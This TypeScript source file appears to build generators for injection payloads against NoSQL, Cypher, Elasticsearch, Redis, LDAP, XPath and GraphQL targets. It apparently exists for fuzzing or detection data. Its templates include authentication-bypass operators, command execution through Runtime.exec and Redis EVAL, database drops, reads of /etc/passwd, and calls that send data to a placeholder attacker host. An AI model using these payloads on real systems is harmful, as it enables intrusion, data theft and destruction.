import {
  altered,
  digits,
  family,
  integer,
  letters,
  maybe,
  mostly,
  oneOf,
  repeat,
  same,
  text,
  words
} from '../template.ts';
import { attackerHost, inventedWord, LOWER, lowerWord } from '../vocabulary/shared.ts';
import { simpleCommand } from '../vocabulary/systems.ts';

const field = words('username password user pass login email passwd token id role isAdmin name secret pin otp');
const quote = oneOf("'", '"');
const value = mostly(['', 3], [lowerWord, 2], ['admin', 2], ['1', 1], [inventedWord, 1]);
const regex = oneOf(
  '.*',
  '^.{' + '5}',
  text`^${letters(LOWER, 1, 5)}`,
  '.{1,}',
  text`^${letters(LOWER, 1, 3)}.*`,
  '.',
  '^',
  text`[a-${letters(LOWER, 1)}].*`,
  text`^.{${integer(1, 20)}}$`,
  'adm.*',
  '/.*/'
);
const operator = words('$ne $gt $gte $lt $lte $nin $in $regex $exists $not $eq $ne $gt $type $size $mod $all');
const operand = oneOf(
  'null',
  '""',
  "''",
  '1',
  '0',
  '-1',
  text`"${regex}"`,
  'true',
  'undefined',
  '{}',
  '[]',
  text`"${lowerWord}"`,
  text`["${lowerWord}"]`,
  text`[${integer(0, 9)},${integer(1, 9)}]`
);
const javascript = oneOf(
  text`sleep(${integer(100, 30_000)})`,
  text`this.${field}${oneOf('==', '!=', '===', '>')}${oneOf(text`'${value}'`, 'this.' + 'password', "''")}`,
  text`this.${field}.match(/${regex}/)`,
  text`this.${field}.length${oneOf('>', '==', '<')}${integer(1, 30)}`,
  text`this.${field}[${integer(0, 9)}]=='${letters(LOWER, 1)}'`,
  'return true',
  'true',
  '1==1',
  text`Object.keys(this)[${integer(0, 9)}].match('^.{${integer(0, 9)}}a.*')`,
  text`function(){return this.${field}=='${value}'}`,
  text`var d=new Date();do{c=new Date();}while(c-d<${integer(1000, 20_000)})`,
  text`db.${words('users version() getMongo() stats()')}`,
  'tojson(this)',
  text`this.constructor.constructor('return process')()`,
  text`emit(1,1)`,
  text`db.${lowerWord}.${words('insert drop find')}({})`
);

export const nosqlTemplates = family('other-injection/nosql', {
  'operator-object': altered(text`{"${operator}": ${operand}}`, (json, rng) =>
    rng.chance(0.3)
      ? json.replaceAll(' ', '')
      : rng.chance(0.2)
        ? json.replaceAll('"$', '$').replace(/"(?=:)/, '')
        : json
  ),
  'operator-unquoted': text`{${oneOf('', ' ')}${operator}:${maybe(' ')}${oneOf(operand, "''", '1')}}`,
  'bare-truth': text`${maybe(value)}${oneOf('', "'", '"', "')", ' ')}${oneOf('||', ' || ', '|| ', '&& ', ' && ')}${same(oneOf(integer(0, 9), letters(LOWER, 1), "'1'", 'true'), (own) => text`${own}${oneOf('==', '===', ' == ')}${own}`)}${maybe(oneOf('//', ';', '%00', "'"))}`,
  'bare-operator': text`${oneOf('{', '{ ', '[', '')}${oneOf('"', '', "'")}${operator}${oneOf('"', '', "'")}${oneOf(':', ': ', ']=', ' : ')}${operand}${oneOf('}', ' }', ']', '')}`,
  'login-object': text`{"${field}":${maybe(' ')}{"${operator}":${maybe(' ')}${operand}},${maybe(' ')}"${field}":${maybe(' ')}{"${operator}":${maybe(' ')}${operand}}}`,
  'login-mixed': text`{"${field}":"${value}","${field}":{"${operator}":${operand}}}`,
  'nested-operators': text`{"${words('$or $and $nor')}":[${repeat(text`{"${field}":${oneOf(text`"${value}"`, text`{"${operator}":${operand}}`)}}`, 1, 3, ',')}]}`,
  'bracketed-parameter': text`${field}[${operator}]=${oneOf(value, regex, '1', lowerWord, '')}`,
  'bracketed-parameters': repeat(text`${field}[${operator}]=${oneOf(value, regex, '1', '')}`, 2, 3, '&'),
  'bracketed-key': text`${maybe(field)}[${operator}]${maybe(text`[${integer(0, 3)}]`)}`,
  'where-object': text`{"$where":${maybe(' ')}${oneOf(text`"${javascript}"`, text`"function(){${javascript}}"`, text`"${javascript} && ${javascript}"`)}}`,
  'where-suffix': text`${value}${oneOf("'", '"', "', ", '", ', '}, ')}${maybe(', ')}$where:${maybe(' ')}${quote}${javascript}${maybe(quote)}`,
  'or-suffix': text`${value}${quote}, $or:${maybe(' ')}[${maybe(' ')}{}, {${maybe(' ')}${quote}${letters(LOWER, 1)}${quote}:${quote}${letters(LOWER, 1)}${maybe(text`${quote} } ], ${field}: ${quote}${value}`)}`,
  'string-breakout': text`${value}${quote}${maybe(' ')}${oneOf('||', '&&', ';', '; ', '|| ', '&& ')}${javascript}${oneOf('//', '%00', '\u0000', ';//', text` || '${letters(LOWER, 1)}'=='${letters(LOWER, 1)}`, text`//+%00`, '', ";var x='", text`;'`, text`&& '1'=='1`)}`,
  'string-equality': same(
    letters(LOWER, 1, 3),
    (s) =>
      text`${value}${oneOf("'", '"')} ${oneOf('||', '&&')} ${oneOf(text`'${s}'=='${s}`, text`"${s}"=="${s}`, text`'${s}'==='${s}`, text`1==1//`, text`1==1%00`, text`1 || '${s}`, text`true || '`)}`
  ),
  'return-statement': text`${maybe(digits(1))}${maybe(oneOf("'", '"', "';", '";', ';'))}${maybe(';')}return${oneOf(' ', '(')}${oneOf('true', text`'${letters(LOWER, 1)}'=='${letters(LOWER, 1)}'`, '1==1', text`this.${field}`)}${maybe(')')}${oneOf(';', '', text`; var ${lowerWord}='${letters(LOWER, 1)}`, '//', " && ''=='", ";'")}`,
  'javascript-sleep': text`${value}${oneOf("'", '"', '', ')')}${oneOf(';', '||', '&&', ',')}sleep(${integer(100, 30_000)})${oneOf(';', '//', ";'", text`||'`, ';}')}`,
  aggregation: text`[{"$${words('lookup match project out merge unionWith')}":${oneOf(text`{"from":"${words('users admin accounts')}","localField":"_id","foreignField":"_id","as":"${lowerWord}"}`, text`{"${field}":{"${operator}":${operand}}}`, '{}', text`"${lowerWord}"`)}}${maybe(text`,{"$${words('limit skip')}":${integer(1, 99)}}`)}]`,
  'expression-function': text`{"${words('$function $accumulator $expr $eval')}":{"body":"function(){${javascript}}","args":[],"lang":"js"}}`,
  'javascript-drop': text`${value}${quote}${maybe('}')}); db.${words('users injection admin')}.${oneOf('insert', 'drop', 'remove', 'find')}(${oneOf('{}', text`{${lowerWord}:${integer(0, 1)}}`, '')});${maybe(" var dummy=('")}`,
  'where-bare': text`${maybe(oneOf('true', '1', value, text`${integer(0, 9)};return true`))}${maybe(', ')}$where:${maybe(' ')}${same(oneOf("'", '"'), (quote) => text`${quote}${oneOf('1 == 1', 'return true', javascript)}${quote}`)}`,
  'match-null': text`${value}${quote}${maybe(' ')}${oneOf('&&', '||', '%26%26')} this.${lowerWord}${oneOf('.match(/.*/)', "!=''", '.length>0')}${oneOf('//+%00', '//', '\u0000', '%00', '//+\u0000')}`,
  'operator-in-parameter': text`${maybe(text`${lowerWord}=${lowerWord}&`)}${field}[${words('$ne $gt $regex $nin $exists')}]${oneOf('=', '%5D=', '[]=')}${oneOf('', '1', lowerWord, '.*', 'true')}`,
  'graph-cypher': text`${value}${quote}${oneOf('}) ', ' ', '})-[r]-(n) ')}${oneOf(text`OR 1=1 ${maybe('RETURN n')}//`, text`RETURN ${lowerWord} UNION MATCH (n) RETURN n//`, text`WITH 1 as a CALL db.labels() YIELD label LOAD CSV FROM 'http://${attackerHost}/?l='+label AS b RETURN b//`, text`DETACH DELETE n//`, text`UNION MATCH (u:User) RETURN u.${field}//`, text`CALL apoc.load.json('http://${attackerHost}')`)}`,
  'elastic-script': text`{"script_fields":{"${lowerWord}":{"script":"${oneOf(text`java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime().exec(\\"${simpleCommand}\\").getText()`, text`import java.io.*;new java.util.Scanner(Runtime.getRuntime().exec(\\"${simpleCommand}\\").getInputStream())`)}"}}}`,
  'redis-commands': text`${value}${oneOf('\r\n', '\n', '%0d%0a', '\\r\\n')}${oneOf(text`SET ${lowerWord} ${lowerWord}`, 'FLUSHALL', text`CONFIG SET dir /var/www/html`, text`EVAL "os.execute('${simpleCommand}')" 0`, text`SLAVEOF ${attackerHost} 6379`, text`set ${lowerWord} 0 0 ${integer(1, 9)}`)}${oneOf('\r\n', '\n', '%0d%0a')}${maybe('quit')}`
});

const attribute = words(
  'uid cn sn mail userPassword objectClass memberOf givenName password department telephoneNumber description sAMAccountName ou dc pager'
);
export const ldapTemplates = family('other-injection/ldap', {
  'wildcard-filter': text`${value}*)(${oneOf('', '|', '&', '!')}${maybe('(')}${attribute}=${oneOf('*', value, text`${letters(LOWER, 1)}*`)}${oneOf(')', '', '))', ')(', '))%00', ')(|(' + 'cn=*')}`,
  'close-and-or': text`${value}${oneOf(')', '*)', '))', '*))')}(|(${attribute}=${oneOf('*', value, lowerWord)}${oneOf(')', '))', '')}`,
  'close-and-true': text`${value})(&${oneOf(')', '))', ')(', text`(${attribute}=*`)}${maybe('%00')}`,
  'or-classes': text`${maybe(oneOf(value, inventedWord))}*${maybe(')')}(|(${oneOf(words('objectclass mail cn uid objectClass'), attribute)}=${oneOf('*', text`${letters(LOWER, 1, 2)}*`)}${maybe(')')}`,
  negated: text`${value})(!(${oneOf('&', '|')}(${letters(LOWER, 1)}=${letters(LOWER, 1)}${oneOf('))', ')')}`,
  'any-password': text`${value})(${words('userPassword password pin')}=${oneOf('*', text`${letters(LOWER, 1, 3)}*`)}))${maybe('%00')}${maybe(text`(|(${attribute}=*`)}`,
  'attribute-probe': text`${value}*)(${attribute}=${oneOf('*', text`${letters(LOWER, 1, 2)}*`)})${maybe(text`(&(${attribute}=${lowerWord}`)}`,
  'null-byte': text`${value}*)(${attribute}=*))${oneOf('%00', '\u0000', '\\00')}`,
  'bare-filter': text`(${oneOf('&', '|', '!')}(${attribute}=${oneOf('*', value)})(${attribute}=${oneOf('*', text`${letters(LOWER, 1)}*`, 'admin')}))${maybe(')(' + '&')}`,
  unbalanced: text`${oneOf('*', value, '')}${oneOf(')(', '*)(', '))(', ')|(', '*)(&', '*)(|', '*))(|', '*()|%26', '*()|&')}${oneOf(text`${attribute}=*`, "'", '&', text`${attribute}=${letters(LOWER, 1)}*)(`, 'objectclass=*)(&')}`,
  'escape-and-match': text`${value}*)(${attribute}:${words('1.2.840.113556.1.4.803 dn caseExactMatch 2.5.13.2')}:=${integer(1, 9999)}`,
  'jndi-like': text`${value}*)(${attribute}=*)(${attribute}=ldap://${attackerHost}/`
});

const node = words('user users account accounts employee customer item node() * order book person login');
export const xpathTemplates = family('other-injection/xpath', {
  'or-true': same(
    letters(LOWER, 1, 3),
    (s) =>
      text`${value}' or ${oneOf(text`'${s}'='${s}`, '1=1', text`name()='${lowerWord}' or '${s}'='${s}`, "''='", "true() or '", text`1=1 or ''='`, text`contains(name,'${s}') or '`, text`position()=${integer(1, 9)} or '`, text`count(/*)=${integer(1, 9)} or '${s}'='${s}`)}`
  ),
  'or-node': text`${value}${quote}${maybe(']')} ${words('or and')} ${oneOf(text`count(//${node})=${integer(0, 9)}`, text`string-length(//${node}[position()=${integer(1, 9)}]/child::node()[position()=${integer(1, 9)}])=${integer(1, 20)}`, text`substring(//${node}[${integer(1, 9)}]/${node},${integer(1, 9)},1)='${letters(LOWER, 1)}'`, text`starts-with(name(/*[1]),'${letters(LOWER, 1)}')`, text`/*/*[${integer(1, 9)}]`, text`name(/*[1])='${lowerWord}'`, text`string-length(name(/*[1]))=${integer(1, 20)}`, text`normalize-space(//${node})`)}${maybe(text` or ${quote}`)}`,
  'union-path': text`${value}${quote}${oneOf('] | ', ' | ', ')] | ', '|', ')]|')}//${node}${oneOf('', '/*', text`[${integer(1, 9)}]`, '/text()', text`['`, text`[${letters(LOWER, 1)}=${quote}`, '/password', text` | a['`)}`,
  comment: text`${value}' ${oneOf("or 1=1 or ''='", text`or //${node}`, text`] | //${node} | a['`, text`or '${lowerWord}'='${lowerWord}' (: `, text`or true() (: ${lowerWord} :)`)}`,
  'bare-path': text`//${node}[${oneOf(text`${words('username name login')}/text()='' or 1=1 or 'a'='a'`, text`contains(.,'${lowerWord}') or true()`, text`position()=1] | //${node}[1=1`, "name/text()='' or '1'='1'")}]${maybe(text`/child::node()[position()=${integer(1, 9)}]`)}`,
  'document-fetch': text`${value}${quote} ${words('and or')} ${oneOf(text`doc('http://${attackerHost}/${lowerWord}')`, text`doc(concat('http://${attackerHost}/',name(/*[1])))`, text`unparsed-text('file:///etc/passwd')`, text`doc('file:///etc/passwd')/*`)}${maybe(" or '")}`,
  axes: text`${value}${quote}${maybe(']')}${oneOf('/', ' or ', '|')}${words('ancestor::* child::node() parent::* descendant-or-self::node() following-sibling::* attribute::* preceding::*')}${oneOf(text`[${integer(1, 9)}=${integer(1, 9)}`, text`['`, text` or '1'='1`, '')}`
});

export const graphqlTemplates = family('other-injection/graphql', {
  introspection: text`${oneOf('', 'query ', 'query IntrospectionQuery', text`query ${lowerWord}`)}{__schema{${repeat(oneOf('types{name}', 'types{name,fields{name}}', 'queryType{name}', 'mutationType{name}', 'queryType{fields{name description}}', 'directives{name locations args{name}}', 'types{name kind description fields{name type{name}}}', 'subscriptionType{name}'), 1, 4, oneOf(' ', ',', ''))}}}`,
  'argument-injection': text`{${node}(${field}:"${oneOf(text`' or ${integer(1, 9)}=${integer(1, 9)}--`, text`1' union select ${repeat('null', 1, 5, ',')}--`, text`{\\"$ne\\":null}`, text`' || '1'=='1`)}"){${field} ${field}}}`,
  'alias-batch': same(
    letters(LOWER, 1, 4),
    (name) =>
      text`{${altered(integer(8, 40), (count, rng) => Array.from({ length: Number(count) }, (_, at) => `${name}${at}:login(user:"admin",password:"${rng.hex(6)}"){token}`).join(' '))}}`
  ),
  'deep-nesting': same(lowerWord, (name) =>
    altered(
      integer(12, 40),
      (depth) => `query{${`${name}{posts{`.repeat(Number(depth))}id${'}}'.repeat(Number(depth))}}`
    )
  ),
  'circular-fragments': text`query{...A}fragment A on ${lowerWord}{...B}fragment B on ${lowerWord}{...A}`,
  'directive-overload': text`query{__typename ${repeat(text`@${oneOf('aa', 'skip(if:false)', 'include(if:true)', 'x')}`, 15, 60)}}`,
  'field-suggestion': text`{${maybe(text`${lowerWord}:`)}__type(name:"${oneOf(words('User Admin Query Mutation Account Order'), lowerWord)}"){name ${oneOf('fields', 'inputFields', 'enumValues', 'possibleTypes')}{name${maybe(' type{name kind ofType{name}}')}}}}`,
  breakout: text`${value}"}){${field}}}${maybe(text`#${lowerWord}`)}${oneOf('', text` mutation{delete${lowerWord}(id:${integer(1, 99)}){id}}`, text`query{__schema{types{name}}}`)}`
});
